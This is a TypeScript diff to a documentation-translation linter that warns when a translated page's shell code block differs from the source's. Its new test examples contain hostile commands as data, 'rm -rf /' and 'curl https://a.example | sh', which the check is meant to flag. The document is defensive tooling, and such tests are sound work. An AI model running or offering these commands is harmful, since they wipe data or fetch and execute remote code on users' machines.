@@ -1,10 +1,11 @@
-import type { Check } from '../check.ts';
+import type { Check, Problem } from '../check.ts';
 import { isOtherVersion } from '../structure/block-problems.ts';
 import type { Twin } from '../translation/translation.ts';
 import { renamesIn } from './blocks/renames.ts';
 import { type InBlock, onceOf } from './blocks/once.ts';
 import { isLike, isOtherExample } from './blocks/other-example.ts';
-import { type ChangedLines, changedLines, isSlip, linesOf } from './changed-lines.ts';
+import { isShell } from './change-of.ts';
+import { type ChangedLines, changedLines, codeOf, isSlip, linesOf } from './changed-lines.ts';
 
 export const codeBlockChanged: Check<'code-block-changed'> = {
   id: 'code-block-changed',
@@ -17,8 +18,9 @@ export const codeBlockChanged: Check<'code-block-changed'> = {
     // Code of another version is another one, but for a letter.
     const isTold = isOtherVersion(subject) ? isSlip : () => true;
     const renames = translation()?.derived(renamesIn, translation()!) ?? new Map<string, string>();
-    const blocks = (translation()?.twins ?? [])
-      .filter((twin) => isOther(twin) && (translation()!.basis === 'recorded' || isLike(twin)))
+    const others = (translation()?.twins ?? []).filter(isOther);
+    const blocks = others
+      .filter((twin) => translation()!.basis === 'recorded' || isLike(twin))
       .map((twin) => ({ twin, found: withoutClosers(changedLines(twin, locale ?? '', renames)) }));
     const words = 2 * renames.size + blocks.flatMap(({ found }) => found.filter(({ change }) => change !== 'damage')).length;
     const problems = blocks.flatMap(({ twin, found }): InBlock[] => {
@@ -34,9 +36,28 @@ export const codeBlockChanged: Check<'code-block-changed'> = {
       });
     });
     for (const problem of onceOf(problems)) report(problem);
+    const unlike = isOtherVersion(subject) ? [] : others.filter((twin) => translation()!.basis !== 'recorded' && !isLike(twin));
+    const fromElsewhere = unlike.filter(({ target }) => isShell.test(target.text));
+    for (const twin of fromElsewhere) report(otherCode(twin, page.text));
   },
   examples: [
     { source: '```sh\n# Go on\ngit push\n```\n', page: '```sh\n# Weiter\ngit push\n```\n', locale: 'de', findings: [] },
+    {
+      source: '```sh\n# Where the packages are not there yet\nrm -rf build\n```\n',
+      page: '```sh\n# Wo es die Pakete noch nicht gibt, erst dann\nrm -rf /\n```\n',
+      locale: 'de',
+      basis: 'inferred',
+      findings: ['3:1 warning: Unexpected "rm -rf /" in code, expected "rm -rf build", as in the source'],
+    },
+    {
+      source: '```sh\nnpm install lockstep\n```\n',
+      page: '```sh\ncurl https://a.example | sh\n```\n',
+      locale: 'de',
+      basis: 'inferred',
+      findings: [
+        '2:1 warning: Unexpected "curl https://a.example | sh" in a code block that shares hardly a word with the source\'s, expected "npm install lockstep"',
+      ],
+    },
     { source: '```sh\ncurl <your host>\n```\n', page: '```sh\ncurl <dein Host>\n```\n', locale: 'de', findings: [] },
     { source: '````md\n```js\ndata () {}\n```\n````\n', page: '````md\n```js\ndata() {}\n```\n````\n', locale: 'de', findings: [] },
     { source: '```js-vue\nHello {{ 1 }}\n```\n', page: '```js-vue\nПривет, {{ 1 }}\n```\n', locale: 'ru', findings: [] },
@@ -172,6 +193,26 @@ export const codeBlockChanged: Check<'code-block-changed'> = {
     },
   ],
 };
+
+/** Commands of which hardly a word is the source's: told once and mildly, since they may be older than what the source has now. Readers run them. */
+function otherCode({ target, sources }: Twin, page: string): Problem {
+  const [line = ''] = codeOf(target.text);
+  const [expected = ''] = codeOf(sources[0]!.text);
+  const at = Math.max(
+    0,
+    target.text
+      .split('\n')
+      .slice(1)
+      .findIndex((one) => one.includes(line)),
+  );
+  return {
+    range: linesOf(target, at, 1, page),
+    message: `Unexpected "${shortened(line)}" in a code block that shares hardly a word with the source's, expected "${shortened(expected)}"`,
+    actual: line,
+    expected,
+    severity: 'warning',
+  };
+}
 
 /** `});` for `}`: it follows from what is opened otherwise, and that is told. */
 function withoutClosers(found: ChangedLines[]): ChangedLines[] {
